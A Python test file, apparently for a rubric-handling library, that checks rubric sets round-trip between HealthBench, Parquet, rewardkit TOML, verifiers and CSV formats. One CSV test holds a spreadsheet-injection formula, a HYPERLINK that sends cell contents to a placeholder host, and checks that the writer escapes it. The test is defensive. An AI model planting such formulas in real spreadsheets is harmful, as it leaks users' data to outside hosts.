"""Rubric sets in each project's own form: read, written back unchanged, and carried from one to another."""

import csv
import json
import tomllib
from dataclasses import replace
from decimal import Decimal
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from rubricworks.data.rubric_sets import RubricEntry, read_rubric_set, write_rubric_set
from rubricworks.errors import UserError
from rubricworks.rewards import signed_reward
from rubricworks.rubrics import Criterion, Rubric

FILES = Path(__file__).parents[1] / "rubric_files"
ROWS = {
    **{name: name for name in ("healthbench", "researchrubrics", "rar", "rubrichub")},
    "rubrichub_verl": "rubrichub",
}


def read(path, format=None):
    notes = []
    return list(read_rubric_set(path, format, note=notes.append)), notes


def rows_of(path):
    return [json.loads(line) for line in path.read_text().splitlines()]


@pytest.mark.parametrize("name", ROWS)
@pytest.mark.parametrize("own", ["own.jsonl", "own.parquet"])
def test_a_set_comes_back_from_our_table_as_it_was(tmp_path, name, own):
    source = FILES / f"{name}.jsonl"
    entries, _ = read(source)
    assert write_rubric_set(entries, tmp_path / own, "rubricworks") == len(entries)
    ours, _ = read(tmp_path / own)
    assert ours == entries
    write_rubric_set(ours, tmp_path / "back.jsonl", ROWS[name])
    assert rows_of(tmp_path / "back.jsonl") == rows_of(source)


@pytest.mark.parametrize("name", ROWS)
def test_a_prompt_that_was_edited_is_written_and_not_the_one_that_was_read(tmp_path, name):
    entries, _ = read(FILES / f"{name}.jsonl")
    edited = [replace(entry, prompt=f"Other question {number}") for number, entry in enumerate(entries)]
    write_rubric_set(edited, tmp_path / "back.jsonl", ROWS[name], note=str)
    assert [entry.prompt for entry in read(tmp_path / "back.jsonl")[0]] == [entry.prompt for entry in edited]
    assert not any(entry.prompt in (tmp_path / "back.jsonl").read_text() for entry in entries)


@pytest.mark.parametrize("name", ["healthbench", "researchrubrics", "rar", "rubrichub"])
def test_a_set_in_parquet_reads_as_the_one_in_lines(tmp_path, name):
    table = pa.Table.from_pylist(rows_of(FILES / f"{name}.jsonl"))
    pq.write_table(table, tmp_path / "rows.parquet")
    assert [entry.rubric for entry in read(tmp_path)[0]] == [entry.rubric for entry in read(FILES / f"{name}.jsonl")[0]]


def test_fields_that_the_first_row_has_not_are_in_parquet_too_or_it_is_refused(tmp_path):
    plain = {"prompt_id": "a", "prompt": "?", "rubrics": [{"criterion": "c", "points": 1}]}
    fuller = {**plain, "prompt_id": "b", "canary": "x", "rubrics": [{"criterion": "c", "points": 1, "axis": "y"}]}
    (tmp_path / "a.jsonl").write_text(f"{json.dumps(plain)}\n{json.dumps(fuller)}\n")
    entries, _ = read(tmp_path / "a.jsonl")
    write_rubric_set(entries, tmp_path / "b.parquet", "healthbench")
    _, row = pq.read_table(tmp_path / "b.parquet").to_pylist()
    assert (row["canary"], row["rubrics"][0]["axis"]) == ("x", "y")
    many = [replace(entries[0], sample_id=str(number)) for number in range(1_000)]
    assert write_rubric_set([*many, entries[0]], tmp_path / "c.parquet", "healthbench") == 1_001
    with pytest.raises(UserError, match=r"not the same fields .* write \.jsonl instead"):
        write_rubric_set([*many, entries[1]], tmp_path / "c.parquet", "healthbench")


OWN = [{"criterion": "c", "weight": 1.0, "key": None}, {"criterion": "d", "weight": 2.0, "key": "k"}]


@pytest.mark.parametrize(
    "columns",
    [
        {"sample_id": pa.array(["a"]), "rubric": pa.array([[*OWN, None]])},
        {"sample_id": pa.array(["a"]), "rubric": pa.array([{"criteria": [*OWN, None]}])},
        {"sample_id": pa.array(["a"]), "rubric": pa.array([{"criterion": ["c", "d"], "weight": [1.0, 2.0]}])},
        {"sample_id": pa.array(["a"]).dictionary_encode(), "rubric": pa.array([json.dumps(OWN)]).dictionary_encode()},
        {"sample_id": pa.array(["a"], pa.large_string()), "rubric": pa.array([json.dumps(OWN)], pa.large_string())},
        {
            "prompt_id": pa.array(["a"], pa.string_view()),
            "prompt": pa.array(["?"]).dictionary_encode(),
            "rubrics": pa.array([[{"criterion": "c", "points": 1}, {"criterion": "d", "points": 2}, None]]),
        },
    ],
)
def test_columns_of_any_type_that_arrow_has_for_a_rubric_read_alike(tmp_path, columns):
    pq.write_table(pa.table(columns), tmp_path / "a.parquet")
    (entry,), _ = read(tmp_path / "a.parquet")
    assert (entry.sample_id, [(criterion.criterion, criterion.weight) for criterion in entry.rubric.criteria]) == (
        "a",
        [("c", 1), ("d", 2)],
    )


def test_points_of_decimal_columns_are_weights_and_fields_beside_them_numbers(tmp_path):
    rubrics = [{"criterion": "a", "points": Decimal("5.00")}, {"criterion": "b", "points": Decimal("-1.50")}]
    row = {"prompt_id": Decimal(12345678901234567890), "prompt": "?", "rubrics": rubrics, "price": Decimal("0.25")}
    pq.write_table(pa.Table.from_pylist([row]), tmp_path / "a.parquet")
    (entry,), _ = read(tmp_path / "a.parquet")
    assert (entry.sample_id, entry.rubric.weights) == ("12345678901234567890", [5, -1.5])
    write_rubric_set([entry], tmp_path / "b.jsonl", "healthbench")
    assert rows_of(tmp_path / "b.jsonl")[0]["price"] == 0.25


def test_healthbench_points_are_weights_and_repeated_criteria_are_told_apart():
    first, second = read(FILES / "healthbench.jsonl")[0]
    assert first.rubric.weights == [9, 7, -8]
    assert first.rubric.essential == [False] * 3
    assert first.prompt.startswith("My neighbour lies")
    assert first.reference.startswith("Call your local")
    assert [criterion.criterion for criterion in second.rubric.criteria][:2] == [
        "Says that 3.9 mmol/L is within the normal range.",
        "Says that 3.9 mmol/L is within the normal range. (2)",
    ]
    assert second.prompt.splitlines()[2] == "assistant: Is there anything else that you know from the doctor?"
    # simple-evals' calculate_score: (9 - 8) / (9 + 7).
    assert signed_reward([1, 0, 1], first.rubric.weights) == pytest.approx(1 / 16)


def test_researchrubrics_weights_may_be_negative_and_its_axes_stand_aside():
    (entry,) = read(FILES / "researchrubrics.jsonl")[0]
    assert (entry.sample_id, entry.prompt[:15]) == ("ferry-1", "How does a ferr")
    assert entry.rubric.weights == [5, 2.5, -4]
    assert entry.rubric.essential == [False] * 3
    assert entry.extras["row"]["domain"] == "Transport"
    assert [criterion["axis"] for criterion in entry.extras["criteria"].values()] == [
        "Explicit Criteria",
        "Implicit Criteria",
        "Communication Quality",
    ]


def test_essential_criteria_of_rar_are_must_haves_and_pitfalls_negative():
    (entry,) = read(FILES / "rar.jsonl")[0]
    assert [(criterion.criterion, criterion.weight, criterion.essential) for criterion in entry.rubric.criteria] == [
        ("Correct Speed", 5, True),
        ("Energy Conservation", 4, False),
        ("Mass Cancels", 1, False),
        ("Neglected Friction", -1, False),
    ]


def test_a_rule_of_rubrichub_is_noted():
    assert "tags.verifier" in read(FILES / "rubrichub_verl.jsonl")[1][0]


@pytest.mark.parametrize("name", ["rewardkit", "rewardkit_required"])
def test_a_judge_of_rewardkit_comes_back_with_the_same_meaning(tmp_path, name):
    entries, _ = read(FILES / f"{name}.toml")
    write_rubric_set(entries, tmp_path / "own.parquet", "rubricworks")
    write_rubric_set(read(tmp_path / "own.parquet")[0], tmp_path / "back.toml", "rewardkit")
    before, after = (tomllib.loads(path.read_text()) for path in (FILES / f"{name}.toml", tmp_path / "back.toml"))
    assert after["judge"] == before["judge"]
    assert after["scoring"] == before["scoring"]
    assert list(map(rewardkit_meaning, after["criterion"])) == list(map(rewardkit_meaning, before["criterion"]))
    assert read(tmp_path / "back.toml")[0][0].rubric.essential == entries[0].rubric.essential


def test_a_sample_with_a_long_name_gets_a_file_that_systems_take(tmp_path):
    rubric = Rubric(criteria=(Criterion(criterion="red", weight=1),))
    entries = [RubricEntry("ä" * 200, rubric), RubricEntry("b" * 300, rubric)]
    assert write_rubric_set(entries, tmp_path / "rubrics", "rewardkit", note=str) == 2
    assert sorted(len(path.stem.encode()) for path in (tmp_path / "rubrics").iterdir()) == [200, 200]


def rewardkit_meaning(item):
    """Fields of a criterion with rewardkit 0.2's defaults, as its runner reads them."""
    annotations = item.get("annotations", {})
    negate = item.get("negate", "negative" in annotations.get("type", "").lower())
    meaning = {name: item.get(name) for name in ("id", "description", "points", "levels")}
    return {**meaning, "type": item.get("type", "binary"), "weight": item.get("weight", 1.0), "negate": negate}


@pytest.mark.parametrize(("aggregation", "essential"), [("all_pass", True), ("weighted-mean", False)])
def test_where_all_must_pass_all_of_rewardkit_are_essential(tmp_path, aggregation, essential):
    text = (FILES / "rewardkit_required.toml").read_text().replace("required-pass", aggregation)
    (tmp_path / "all.toml").write_text(text.replace("required_pass", aggregation))
    (entry,), _ = read(tmp_path / "all.toml")
    assert entry.rubric.essential == [essential] * 3


def test_must_haves_of_rewardkit_are_essential():
    (entry,), _ = read(FILES / "rewardkit_required.toml")
    assert entry.rubric.essential == [True, False, True]
    (entry,), notes = read(FILES / "rewardkit.toml")
    assert entry.rubric.essential == [False] * 4
    assert [criterion.evaluation_rule for criterion in entry.rubric.criteria] == [
        "",
        "Passes at the best level only: 5 of 5.",
        "Passes if the statement does not hold of the response.",
        'Passes at the best level only: Main path and edge cases "of note".',
    ]
    assert "several levels" in notes[0]


def must_haves(*essential, pitfall=False):
    criteria = [
        Criterion(criterion=f"c{number}", weight=2, essential=is_essential)
        for number, is_essential in enumerate(essential)
    ]
    return Rubric(criteria=(*criteria, *[Criterion(criterion="bad", weight=-1, essential=False)] * pitfall))


@pytest.mark.parametrize("pitfall", [False, True])
def test_must_haves_beside_weights_are_annotations_in_rewardkit_and_come_back(tmp_path, pitfall):
    rubric, notes = must_haves(True, False, pitfall=pitfall), []
    write_rubric_set([RubricEntry("a", rubric)], tmp_path / "a.toml", "rewardkit", note=notes.append)
    document = tomllib.loads((tmp_path / "a.toml").read_text())
    # required-pass would pay 1 or nothing, whatever the weights.
    assert document["scoring"]["aggregation"] == ("weighted-sum" if pitfall else "weighted-mean")
    assert [criterion.get("annotations", {}).get("essential") for criterion in document["criterion"][:2]] == [
        True,
        None,
    ]
    assert any("has no gate" in note for note in notes)
    assert not any("no place for a criterion's essential" in note for note in notes)
    (entry,), _ = read(tmp_path / "a.toml")
    assert entry.rubric.essential == rubric.essential


@pytest.mark.parametrize("essential", [(True, False, True), (False, True, False), (False, False, False)])
def test_must_haves_of_rewardkit_that_were_edited_come_back_as_edited(tmp_path, essential):
    for importance in ("must have", "optional"):
        text = (FILES / "rewardkit_required.toml").read_text().replace("must have", importance)
        (tmp_path / "a.toml").write_text(text)
        (entry,), _ = read(tmp_path / "a.toml")
        criteria = [
            criterion.model_copy(update={"essential": flag})
            for criterion, flag in zip(entry.rubric.criteria, essential, strict=True)
        ]
        edited = replace(entry, rubric=Rubric(criteria=tuple(criteria)))
        write_rubric_set([edited], tmp_path / "b.toml", "rewardkit", note=str)
        (back,), _ = read(tmp_path / "b.toml")
        assert back.rubric.essential == list(essential)
        aggregation = tomllib.loads((tmp_path / "b.toml").read_text())["scoring"]["aggregation"]
        assert aggregation == ("required_pass" if any(essential) else "weighted-mean")  # or rewardkit refuses the file


def test_a_criterion_that_is_no_longer_negated_is_not_negated_by_its_annotation(tmp_path):
    (entry,), _ = read(FILES / "rewardkit_required.toml")
    criteria = [criterion.model_copy(update={"evaluation_rule": ""}) for criterion in entry.rubric.criteria]
    edited = replace(entry, rubric=Rubric(criteria=tuple(criteria)))
    write_rubric_set([edited], tmp_path / "b.toml", "rewardkit", note=str)
    assert [criterion.evaluation_rule for criterion in read(tmp_path / "b.toml")[0][0].rubric.criteria] == [""] * 3


def test_pitfalls_in_rewardkit_are_a_weighted_sum_that_gives_our_reward(tmp_path):
    entries, _ = read(FILES / "healthbench.jsonl")
    write_rubric_set(entries[:1], tmp_path / "judge.toml", "rewardkit")
    document = tomllib.loads((tmp_path / "judge.toml").read_text())
    assert document["scoring"] == {"aggregation": "weighted-sum"}
    for met in ([1, 1, 1], [1, 0, 1], [0, 1, 0]):
        total = sum(value * item["weight"] for value, item in zip(met, document["criterion"], strict=True))
        assert total == pytest.approx(signed_reward(met, entries[0].rubric.weights))


@pytest.mark.parametrize("suffix", ["toml", "json"])
def test_criteria_of_verifiers_come_back_as_they_were(tmp_path, suffix):
    entries, notes = read(FILES / "verifiers.toml")
    assert "several choices" in notes[0]
    write_rubric_set(entries, tmp_path / f"verifiers.{suffix}", "verifiers")
    text = (tmp_path / f"verifiers.{suffix}").read_text()
    before = tomllib.loads((FILES / "verifiers.toml").read_text())["criteria"]
    after = (tomllib.loads(text) if suffix == "toml" else json.loads(text))["criteria"]
    assert after == [{"weight": 1.0, **item} for item in before]
    assert read(tmp_path / f"verifiers.{suffix}")[0][0].rubric == entries[0].rubric


def test_a_pitfall_earns_in_verifiers_by_not_being_met(tmp_path):
    notes = []
    entries, _ = read(FILES / "rar.jsonl")
    write_rubric_set(entries, tmp_path / "verifiers.json", "verifiers", note=notes.append)
    item = json.loads((tmp_path / "verifiers.json").read_text())["criteria"][-1]
    assert (item["weight"], item["choices"]) == (1, ["yes", "no"])
    assert "no negative weight" in notes[0]


def test_a_table_of_people_is_read_and_written(tmp_path):
    entries, _ = read(FILES / "people.csv")
    assert [(entry.sample_id, entry.rubric.weights) for entry in entries] == [("s1", [3, 1.5, -2]), ("s2", [2])]
    assert entries[0].rubric.essential == [True, False, False]
    write_rubric_set(entries, tmp_path / "back.csv", "csv")
    assert read(tmp_path / "back.csv")[0] == entries
    saved_by_excel = b"\xef\xbb\xbf" + (tmp_path / "back.csv").read_bytes()
    (tmp_path / "back.csv").write_bytes(saved_by_excel)
    assert read(tmp_path / "back.csv")[0] == entries


def test_rows_of_a_sample_need_not_stand_together_and_its_prompt_may_stand_in_any(tmp_path):
    (tmp_path / "a.csv").write_text("sample_id,criterion,weight,prompt\na,big,3,\nb,big,3,q\na,small,1,p\nb,red,1,\n")
    entries, _ = read(tmp_path / "a.csv")
    assert [(entry.sample_id, entry.rubric.weights, entry.prompt) for entry in entries] == [
        ("a", [3, 1], "p"),
        ("b", [3, 1], "q"),
    ]


def test_what_a_spreadsheet_would_carry_out_is_written_as_text_and_comes_back(tmp_path):
    formula = '=HYPERLINK("http://x/"&A1)'
    criteria = [
        Criterion(criterion=formula, description="-1+2", weight=1),
        Criterion(criterion=f"'{formula}", reference="@x", weight=-2),
    ]
    entry = RubricEntry("+s1", Rubric(criteria=tuple(criteria)), prompt="=1")
    write_rubric_set([entry], tmp_path / "a.csv", "csv", note=pytest.fail)
    with (tmp_path / "a.csv").open(newline="") as file:
        rows = list(csv.DictReader(file))
    assert [row["criterion"] for row in rows] == [f"'{formula}", f"''{formula}"]
    assert [(row["sample_id"], row["prompt"], row["weight"]) for row in rows] == [
        ("'+s1", "'=1", "1.0"),
        ("'+s1", "'=1", "-2.0"),
    ]
    assert read(tmp_path / "a.csv")[0] == [entry]


def test_a_bare_list_and_a_rubric_in_json_are_read(tmp_path):
    criteria = [{"criterion": "red", "weight": 3}, {"criterion": "blue", "weight": -1}]
    for document in (criteria, {"criteria": criteria}):
        (tmp_path / "s1.json").write_text(json.dumps(document))
        (entry,), _ = read(tmp_path / "s1.json")
        assert (entry.sample_id, entry.rubric.weights) == ("s1", [3, -1])


def test_criteria_with_points_alone_and_one_row_as_a_document_are_healthbenchs(tmp_path):
    criteria = [{"criterion": "asks since when", "points": 5, "tags": []}, {"criterion": "is rude", "points": -8}]
    row = {"prompt_id": "s1", "prompt": [{"role": "user", "content": "It hurts."}], "rubrics": criteria}
    for document, prompt in ((criteria, ""), (row, "It hurts.")):
        (tmp_path / "s1.json").write_text(json.dumps(document))
        (entry,), _ = read(tmp_path / "s1.json")
        assert (entry.sample_id, entry.rubric.weights, entry.extras["format"]) == ("s1", [5, -8], "healthbench")
        assert entry.prompt.endswith(prompt)
    (tmp_path / "s1.json").write_text(json.dumps(criteria[1:]))
    with pytest.raises(UserError, match="no criterion has a positive weight"):
        read(tmp_path / "s1.json")


TEXT = st.text(st.characters(exclude_categories=("Cs",), exclude_characters="\0"), min_size=1, max_size=40)
WEIGHTS = st.integers(-40, 40).filter(bool).map(lambda n: n / 4)
CRITERIA = st.lists(
    st.builds(
        Criterion,
        criterion=TEXT.filter(str.strip),
        description=TEXT.map(str.strip),
        weight=WEIGHTS,
        essential=st.booleans(),
    ),
    min_size=1,
    max_size=5,
    unique_by=lambda criterion: criterion.criterion,
).filter(lambda criteria: any(criterion.weight > 0 for criterion in criteria))


@pytest.mark.parametrize("name", ["back.csv", "back.jsonl", "back.parquet"])
@settings(max_examples=25, deadline=None)
@given(criteria=CRITERIA)
def test_any_rubric_of_ours_comes_back(tmp_path_factory, name, criteria):
    path = tmp_path_factory.getbasetemp() / name
    entry = RubricEntry("s1", Rubric(criteria=tuple(criteria)), prompt="p")
    write_rubric_set([entry], path, "csv" if name == "back.csv" else "rubricworks")
    assert read(path)[0] == [entry]


@settings(max_examples=25, deadline=None)
@given(criteria=CRITERIA)
def test_titles_and_weights_survive_rewardkits_toml_whatever_they_are(tmp_path_factory, criteria):
    path = tmp_path_factory.getbasetemp() / "back.toml"
    rubric = Rubric(criteria=tuple(criteria))
    write_rubric_set([RubricEntry("s1", rubric)], path, "rewardkit", note=str)
    (entry,), _ = read(path)
    total = sum(weight for weight in rubric.weights if weight > 0) if rubric.has_pitfalls else 1
    assert [criterion.criterion for criterion in entry.rubric.criteria] == [
        criterion.criterion for criterion in criteria
    ]
    assert entry.rubric.weights == pytest.approx([weight / total for weight in rubric.weights])
    names = [item["name"] for item in tomllib.loads(path.read_text())["criterion"]]
    assert len(set(names)) == len(names)


def test_one_rubric_a_file_goes_into_a_folder(tmp_path):
    entries, _ = read(FILES / "people.csv")
    assert write_rubric_set(entries, tmp_path / "rubrics", "verifiers", note=str) == 2
    assert sorted(path.name for path in (tmp_path / "rubrics").iterdir()) == ["s1.toml", "s2.toml"]
    assert [entry.sample_id for entry in read(tmp_path / "rubrics")[0]] == ["s1", "s2"]
    with pytest.raises(UserError, match="give a folder"):
        write_rubric_set(entries, tmp_path / "one.toml", "verifiers", note=str)


GOOD = {"prompt_id": "a", "prompt": [{"role": "user", "content": "?"}], "rubrics": [{"criterion": "c", "points": 1}]}


@pytest.mark.parametrize(
    ("name", "content", "words"),
    [
        (
            "a.jsonl",
            '{"text": "no rubric"}',
            "its fields are text, which is no known format.* can be a .csv with a row for each criterion",
        ),
        ("a.jsonl", json.dumps({**GOOD, "rubrics": [{"criterion": "c", "points": float("nan")}]}), "finite"),
        ("a.jsonl", json.dumps({**GOOD, "rubrics": [{"criterion": "c", "points": "5"}]}), "not a number"),
        ("a.jsonl", json.dumps({**GOOD, "rubrics": [{"criterion": "c", "points": 0}]}), "is 0"),
        ("a.jsonl", json.dumps({**GOOD, "rubrics": [{"criterion": "c", "points": -3}]}), "nothing can be earned"),
        ("a.jsonl", json.dumps({**GOOD, "rubrics": []}), "at least one"),
        ("a.jsonl", json.dumps({**GOOD, "rubrics": [{"points": 3}]}), "no 'criterion'"),
        ("a.jsonl", f"{json.dumps(GOOD)}\n{json.dumps(GOOD)}", "two rubrics are of sample 'a'"),
        ("a.jsonl", "{", "not JSON"),
        ("a.jsonl", "[1]", "is no object"),
        ("a.jsonl", "", "no rubric is in it"),
        ("a.toml", "x = 1", "no rubric of a known format.* can be a .csv"),
        ("a.toml", "x =", "cannot be read as TOML"),
        ("a.toml", '[[criterion]]\nweight = nan\ndescription = "c"', "finite"),
        (
            "a.toml",
            '[[criterion]]\ndescription = "c"\n[[criterion]]\ndescription = "d"\nnegate = "no"',
            "criterion 2: negate is 'no'; write true or false",
        ),
        ("a.toml", '[[criterion]]\ndescription = "c"\noptional = "false"', "criterion 1: optional is 'false'"),
        ("a.parquet", "PAR?", "cannot be read as Parquet"),
        ("a.csv", "sample_id,criterion\ns,c", "no column 'weight'"),
        ("a.csv", "sample_id,criterion,weight\ns,c,heavy", "weight"),
        ("a.csv", "sample_id,criterion,weight,essential\ns,c,1,maybe", "write yes or no"),
        ("a.csv", "sample_id,criterion,weight\ns,c,1, but not so", "more cells than there are columns"),
        (
            "a.csv",
            "sample_id,criterion,weight,prompt\ns,c,1,p\nt,c,1,\ns,d,1,\ns,e,1,q",
            "line 2: sample 's': its prompts in lines 2 and 5 differ",
        ),
        ("a.yaml", "a: 1", "is not read"),
    ],
)
def test_what_is_no_rubric_is_refused_with_its_place(tmp_path, name, content, words):
    (tmp_path / name).write_text(content)
    with pytest.raises(UserError, match=words) as refusal:
        read(tmp_path / name)
    assert name in str(refusal.value)


def test_another_format_than_the_one_named_is_refused(tmp_path):
    with pytest.raises(UserError, match="no 'prompt_id'"):
        read(FILES / "rar.jsonl", "healthbench")
    with pytest.raises(UserError, match="no rubric of verifiers"):
        read(FILES / "rewardkit.toml", "verifiers")
    with pytest.raises(UserError, match="no such file"):
        read(tmp_path / "nothing.jsonl")
    with pytest.raises(UserError, match=r"\.jsonl or \.parquet"):
        write_rubric_set([], tmp_path / "rubrics.csv", "healthbench")


@pytest.mark.parametrize(
    ("name", "format", "words"),
    [
        ("people.csv", "healthbench", "a .csv is read as csv, not as healthbench, whose files are .parquet or .jsonl"),
        ("healthbench.jsonl", "csv", "or rubrichub or .*, not as csv, whose files are .csv"),
        ("rewardkit.toml", "rar", "a .toml is read as rewardkit or .*, not as rar"),
    ],
)
def test_a_format_that_does_not_fit_the_ending_is_refused_with_those_that_do(tmp_path, name, format, words):
    with pytest.raises(UserError, match=words):
        read(FILES / name, format)


def test_of_a_folder_the_files_of_the_named_format_are_read(tmp_path):
    for name in ("people.csv", "healthbench.jsonl"):
        (tmp_path / name).write_bytes((FILES / name).read_bytes())
    assert read(tmp_path, "csv") == read(FILES / "people.csv")
    assert read(tmp_path, "healthbench") == read(FILES / "healthbench.jsonl")
    with pytest.raises(UserError, match=r"no \.toml or \.json is in this folder"):
        read(tmp_path, "verifiers")


def test_rows_of_another_format_than_the_one_named_are_told_by_theirs(tmp_path):
    (tmp_path / "a.json").write_text(json.dumps([GOOD]))
    with pytest.raises(UserError, match="row 1: no rubric of verifiers; its fields are those of healthbench"):
        read(tmp_path / "a.json", "verifiers")


@pytest.mark.parametrize("text", ["Farbe grün".encode("latin-1"), b"x" * 200_000])
def test_a_csv_of_another_encoding_or_with_an_endless_field_is_told_as_such(tmp_path, text):
    path = tmp_path / "a.csv"
    path.write_bytes(b"sample_id,criterion,weight\ns1," + text + b",1\n")
    with pytest.raises(UserError, match=r"a\.csv: after line \d: no CSV in UTF-8"):
        list(read_rubric_set(path, note=str))
